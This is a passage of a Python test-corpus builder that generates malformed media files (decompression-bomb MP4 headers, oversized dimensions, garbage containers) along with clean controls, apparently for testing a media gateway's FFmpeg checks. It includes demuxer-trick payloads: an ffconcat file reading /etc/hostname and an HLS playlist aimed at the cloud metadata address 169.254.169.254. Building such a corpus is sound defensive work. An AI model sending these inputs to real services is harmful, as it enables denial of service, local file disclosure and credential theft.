    return _patch_mp4(_mp4(1.0, fps=10), lambda b: _declare_frames(b, frames, constant_size=True))


def _video_headers() -> Iterator[Sample]:
    mp4 = _mp4(1.0, fps=10)
    yield Sample(
        "mp4-declares-1e6-frames",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_frames(b, 1_000_000, constant_size=False)),
        what="mvhd/tkhd/mdhd durations, stts and stsz counts patched to 10^6 frames; 10 present",
    )
    yield Sample(
        "mp4-declares-1e6-frames-constant-size",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_frames(b, 1_000_000, constant_size=True)),
        what="as above with a constant sample size, so no size table bounds the count",
    )
    yield Sample(
        "mp4-declares-4e7-frames-constant-size",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_frames(b, 40_000_000, constant_size=True)),
        what="FFmpeg would size its index for 4x10^7 samples: half a gigabyte for 35 KB",
    )
    # Display size (tkhd) and sample-entry size (stsd) are not what decoders use: the SPS is. The frames are
    # decoded at their true size and re-encoded with true headers, so these are served.
    yield Sample(
        "mp4-tkhd-65535",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_dimensions(b, 65535, 65535, {"tkhd"})),
        expect="serve",
        what="decoded at the SPS's 64x64 and re-encoded",
    )
    yield Sample(
        "mp4-stsd-65535",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_dimensions(b, 65535, 65535, {"stsd"})),
        expect="serve",
        what="decoded at the SPS's 64x64 and re-encoded",
    )
    yield Sample(
        "mp4-avcc-sps-16384",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_dimensions(b, 16384, 16384, {"sps"})),
        what="the avcC SPS declares 16,384x16,384 macroblock rows and columns",
    )
    yield Sample(
        "mp4-all-headers-8192",
        "video_header",
        "video_url",
        "video/mp4",
        _patch_mp4(mp4, lambda b: _declare_dimensions(b, 8192, 8192, {"tkhd", "stsd", "sps"})),
    )
    yield Sample("mp4-duration-0", "video_header", "video_url", "video/mp4", _patch_mp4(mp4, _zero_durations))
    rng = np.random.default_rng(13)
    junk = rng.integers(0, 256, 8192, dtype=np.uint8).tobytes()
    avi = (
        b"RIFF"
        + struct.pack("<I", 4 + 12 + len(junk))
        + b"AVI LIST"
        + struct.pack("<I", 0xFFFFFFF0)
        + b"hdrl"
    )
    yield Sample("avi-garbage", "garbage", "video_url", "video/x-msvideo", avi + junk)
    ebml = bytes.fromhex("1a45dfa39b4286810142f7810142f2810442f381084282886d6174726f736b61")
    yield Sample("mkv-garbage", "garbage", "video_url", "video/x-matroska", ebml + junk)
    yield Sample(
        "mkv-segment-size-huge",
        "garbage",
        "video_url",
        "video/x-matroska",
        ebml + bytes.fromhex("18538067") + b"\x01\xff\xff\xff\xff\xff\xff\xfe" + junk,
    )


def _zero_durations(boxes: list[_Box]) -> None:
    (mvhd,) = _find(boxes, b"mvhd")
    mvhd.payload = _set_u32(mvhd.payload, 16, 0)
    for tkhd in _find(boxes, b"tkhd"):
        tkhd.payload = _set_u32(tkhd.payload, 20, 0)
    for mdhd in _find(boxes, b"mdhd"):
        mdhd.payload = _set_u32(mdhd.payload, 16, 0)
    (stts,) = _find(boxes, b"stts")
    stts.payload = struct.pack(">II", 0, 0)


def benign() -> list[Sample]:
    """Clean files of each kind (the warm-up; and proof that the checks do not refuse ordinary media)."""
    return [
        Sample(
            "clean-jpeg",
            "clean",
            "image_url",
            "image/jpeg",
            _encode(_noise(320, 240), "JPEG", quality=85),
            expect="serve",
        ),
        Sample(
            "clean-png", "clean", "image_url", "image/png", _encode(_noise(64, 64), "PNG"), expect="serve"
        ),
        Sample("clean-wav", "clean", "input_audio", "audio/wav", _wav(_tone(2.0), 16000), expect="serve"),
        Sample("clean-flac", "clean", "audio_url", "audio/flac", _flac(2.0), expect="serve"),
        Sample("clean-mp4", "clean", "video_url", "video/mp4", _mp4(2.0, audio=True), expect="serve"),
        Sample(
            "clean-mp4-faststart",
            "clean",
            "video_url",
            "video/mp4",
            _mp4(2.0, faststart=True),
            expect="serve",
        ),
    ]


def clean_video(seconds: float) -> Sample:
    return Sample(
        f"clean-mp4-{seconds:g}s",
        "clean",
        "video_url",
        "video/mp4",
        _mp4(seconds, size=(320, 240)),
        expect="serve",
    )


def _demuxer_tricks() -> Iterator[Sample]:
    """Text that FFmpeg's probe takes for a demuxer that opens other files or URLs (issue 15)."""
    concat = b"ffconcat version 1.0\nfile recording-1.wav\n"  # 42 bytes: a file in the working directory
    yield Sample(
        "ffconcat-as-audio",
        "demuxer_trick",
        "input_audio",
        "audio/wav",
        concat,
        what="concat demuxer reading a file from the gateway's working directory",
    )
    yield Sample("ffconcat-as-video", "demuxer_trick", "video_url", "video/mp4", concat)
    yield Sample(
        "concat-absolute-path",
        "demuxer_trick",
        "audio_url",
        "audio/wav",
        b"ffconcat version 1.0\nfile /etc/hostname\n",
    )
    hls = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://169.254.169.254/latest\n#EXT-X-ENDLIST\n"
    yield Sample("hls-playlist-as-video", "demuxer_trick", "video_url", "video/mp4", hls)
    yield Sample("hls-playlist-as-audio", "demuxer_trick", "audio_url", "audio/mpeg", hls)
    dash = b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period/></MPD>'
    yield Sample("dash-manifest-as-video", "demuxer_trick", "video_url", "video/mp4", dash)
    sdp = b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n"
    yield Sample("sdp-as-audio", "demuxer_trick", "audio_url", "audio/wav", sdp)
    # A FLAC declaring 192 kHz: refused from its header (FLAC allows up to 655 kHz).
    yield Sample("flac-192khz", "audio_header", "audio_url", "audio/flac", _flac(1.0, 192000))


def build() -> list[Sample]:
    samples = [
        *_pixel_bombs(),
        *_lying_headers(),
        *_truncated(),
        *_polyglots(),
        *_audio_headers(),
        *_video_headers(),
        *_demuxer_tricks(),
    ]
    names = [s.name for s in samples]
    assert len(names) == len(set(names)), "sample names must be unique"
    return samples


def write(directory: Path) -> list[tuple[Sample, Path]]:
    """The corpus as files under ``directory`` (one per sample), for inspection with other tools."""
    directory.mkdir(parents=True, exist_ok=True)
    out = []
    for s in build():
        path = directory / f"{s.name}.{_EXT[s.part]}"
        path.write_bytes(s.data)
        out.append((s, path))
    return out
